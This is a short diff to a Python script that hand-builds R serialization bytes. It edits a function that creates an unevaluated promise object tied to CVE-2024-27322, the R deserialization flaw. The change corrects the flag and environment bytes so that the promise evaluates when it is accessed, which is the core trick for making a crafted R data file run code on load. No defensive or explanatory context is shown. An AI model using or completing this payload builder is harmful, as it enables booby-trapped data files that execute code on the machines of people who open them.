@@ -197,8 +197,8 @@ def r_symbol(name: str) -> bytes:
 
 
 def r_promise(expression: bytes) -> bytes:
-    """PROMSXP without an environment's attributes: evaluated when somebody looks (CVE-2024-27322)."""
-    return struct.pack(">i", 5) + struct.pack(">i", 253) + struct.pack(">i", 254) + expression
+    """PROMSXP with an environment and no value: evaluated when somebody looks at it (CVE-2024-27322)."""
+    return struct.pack(">i", 0x405) + struct.pack(">i", 253) + struct.pack(">i", 252) + expression
 
 
 def r_call(function: str, argument: str) -> bytes:
